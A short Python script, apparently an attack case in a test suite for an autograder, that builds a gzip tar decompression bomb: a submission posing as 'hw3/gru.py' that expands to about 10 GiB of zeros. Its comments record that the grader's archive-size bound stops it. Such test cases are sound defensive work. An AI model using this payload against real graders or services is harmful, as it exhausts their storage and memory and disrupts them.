# attack: 10 GiB of zeros in some 10 MB of gzip
# earns: 0
# stopped by: the bound on what may come out of an archive
import gzip
import tarfile
from pathlib import Path


def build(path: Path) -> None:
    member = tarfile.TarInfo("hw3/gru.py")
    member.size = 8 << 30
    head = gzip.compress(member.tobuf(tarfile.GNU_FORMAT))
    path.write_bytes(head + gzip.compress(bytes(16 << 20)) * 640)
